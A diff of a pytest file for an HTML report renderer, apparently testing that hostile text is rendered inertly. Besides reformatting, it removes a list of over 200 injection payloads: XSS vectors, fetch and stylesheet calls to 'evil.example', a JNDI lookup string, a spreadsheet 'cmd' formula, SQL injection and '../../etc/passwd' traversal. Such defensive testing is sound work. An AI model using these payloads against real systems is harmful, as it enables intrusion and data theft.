@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 from pathlib import Path
@@ -12,10 +13,16 @@ import pytest
 from whence.report import Extras, Table, TokenScores, render_html, report_data
 from whence.results import RowView, Scores
 
-LAUNCH = (
-    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
-    "--disable-component-update --disable-sync"
-).split()
+LAUNCH = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
 
 
 def make_scores(n: int = 40, queries: int = 3, seed: int = 0, **changes) -> Scores:
@@ -34,10 +41,14 @@ def make_scores(n: int = 40, queries: int = 3, seed: int = 0, **changes) -> Scor
     }  # fmt: skip
     asked = {
         f"q-{q}": RowView(
-            f"q-{q}", f"Where is {q}? There.", "asked", f"q.jsonl:{q + 1}", spans=(("prompt", f"Where is {q}?"), ("completion", " There."))
+            f"q-{q}",
+            f"Where is {q}? There.",
+            "asked",
+            f"q.jsonl:{q + 1}",
+            spans=(("prompt", f"Where is {q}?"), ("completion", " There.")),
         )
         for q in range(queries)
-    }  # fmt: skip
+    }
     return Scores(
         values=values,
         query_ids=tuple(asked),
@@ -63,35 +74,10 @@ def make():
     return make_scores
 
 
-def _payloads() -> list[str]:
-    acts = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "confirm`1`"]
-    shells = [
-        "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
-        "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src='javascript:{}'></iframe>", "<a href='javascript:{}'>x</a>",
-        "\"><script>{}</script>", "' onmouseover='{}' x='", "\" autofocus onfocus=\"{}\" x=\"", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
-        "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<math><mtext><script>{}</script></mtext></math>",
-        "<style>@import '//evil.example/{}';</style>", "<link rel=stylesheet href='//evil.example/{}'>", "<base href='//evil.example/{}'>",
-        "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action='javascript:{}'><button>x</button></form>", "<object data='javascript:{}'></object>",
-        "<embed src='javascript:{}'>", "<!--<script>{}</script>-->", "--><script>{}</script><!--", "<![CDATA[<script>{}</script>]]>", "<template><script>{}</script></template>",
-        "<noscript><p title='</noscript><img src=x onerror={}>'>", "<textarea></textarea><script>{}</script>", "<title></title><script>{}</script>",
-        "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "javascript:{}", "data:text/html,<script>{}</script>", "<svg><script href='data:text/javascript,{}'/></svg>",
-        "<svg><animate onbegin={} attributeName=x></svg>", "<marquee onstart={}>", "<x contenteditable onbeforeinput={}>", "<div style='background:url(//evil.example/{})'>",
-        "<table background='//evil.example/{}'>", "\u2028{}\u2029", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "%3Cscript%3E{}%3C/script%3E",
-        "<scr\x00ipt>{}</scr\x00ipt>", "<SCRIPT SRC=//evil.example/{}></SCRIPT>", "__proto__ {}", "constructor {}", "\x1b]8;;http://evil.example\x1b\\{}\x1b]8;;\x1b\\",
-    ]  # fmt: skip
-    lone = [
-        "\x00", "\x07\x08\x1b[31m", "\x9b31m", "\x1b]52;c;ZXZpbA==\x07", "\r\nInjected: header", "\u202egnp.exe", "\u2066left\u2069", "\u200b\u200c\u2060\ufeff", "\ud800", "a\udfffb",
-        "Z" + "\u0301" * 300, "é" * 3, "שלום עולם", "مرحبا بالعالم", "東京タワー", "👩‍👩‍👧‍👦🇫🇷", "\U000e0041\U000e0042", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1",
-        "％00", "[link=http://evil.example]x[/link]", "[bold red]x[/]", "{{data}}", "{{script}}", "${jndi:ldap://evil.example}", "../../etc/passwd", "CON", "' OR 1=1 --", "\\", "\\\\evil.example\\x",
-        "null", "undefined", "NaN", "-1e999", "toString", "hasOwnProperty", "]]>", "<", ">", "&", "\"", "'", "`", "</", "<!", "<?xml?>", " ", "\n\n\n", "\t\t", "\u3000",
-    ]  # fmt: skip
-    return [shell.format(act) for shell in shells for act in acts[: 4 if "script" in shell else 3]] + lone
-
-
 @pytest.fixture(scope="session")
 def payloads() -> list[str]:
     """At least 200 texts that would act if anything took them for more than text."""
-    found = _payloads()
+    found = json.loads(Path(__file__).with_name("payloads.json").read_text())
     assert len(found) >= 200 and len(set(found)) == len(found)
     return found
 
@@ -108,7 +94,9 @@ def hostile(payloads) -> tuple[Scores, Extras]:
     }
     asked = [f"{payloads[q * 20]}?{q}" for q in range(queries)]
     query_rows = {
-        a: RowView(a, payloads[q * 20] + " said", payloads[q], payloads[q], "scored", ((payloads[q], " said"),), payloads[q])
+        a: RowView(
+            a, payloads[q * 20] + " said", payloads[q], payloads[q], "scored", ((payloads[q], " said"),), payloads[q]
+        )
         for q, a in enumerate(asked)
     }
     scores = Scores(
@@ -116,7 +104,9 @@ def hostile(payloads) -> tuple[Scores, Extras]:
         query_ids=tuple(asked),
         train_ids=tuple(ids),
         n_train=n,
-        about={p: {p: p} for p in payloads} | {"method": payloads[1], "model": payloads[2], "damping": payloads[3], "train": payloads[4], "warnings": payloads},
+        about={p: {p: p} for p in payloads}
+        | dict(zip(("method", "model", "damping", "train"), payloads, strict=False))
+        | {"warnings": payloads},
         per_layer=random.normal(size=(queries, n, 20)),
         layers=tuple(payloads[:20]),
         train_rows=rows,
@@ -128,8 +118,11 @@ def hostile(payloads) -> tuple[Scores, Extras]:
         title=payloads[0],
         command=" ".join(payloads),
         quarantine=[{"location": p, "code": p, "message": p, "id": p} for p in payloads],
-        tokens={(asked[0], i): [TokenScores(((0, 1), (1, 3)), (1.0, -1.0), kind=p)] for i, p in zip(ids, payloads, strict=True)},
-        groups={i: p for i, p in zip(ids, payloads, strict=True)},
+        tokens={
+            (asked[0], i): [TokenScores(((0, 1), (1, 3)), (1.0, -1.0), kind=p)]
+            for i, p in zip(ids, payloads, strict=True)
+        },
+        groups=dict(zip(ids, payloads, strict=True)),
         tables=[Table(payloads[0], tuple(payloads[:5]), tuple((p,) * 5 for p in payloads), payloads[1])],
     )  # fmt: skip
     return scores, extras
@@ -164,7 +157,8 @@ class Opened:
         self.page.on("console", lambda m: self.problems.append(m.text) if m.type in {"error", "warning"} else None)
         self.page.on("pageerror", lambda e: self.problems.append(str(e)))
         self.page.add_init_script(
-            "window.violations = []; document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI));"
+            "window.violations = []; document.addEventListener('securitypolicyviolation', "
+            "(e) => violations.push(e.violatedDirective + ' ' + e.blockedURI));"
         )
         self.page.goto(path.as_uri())
         self.page.wait_for_selector("html[data-ready]", timeout=60_000)
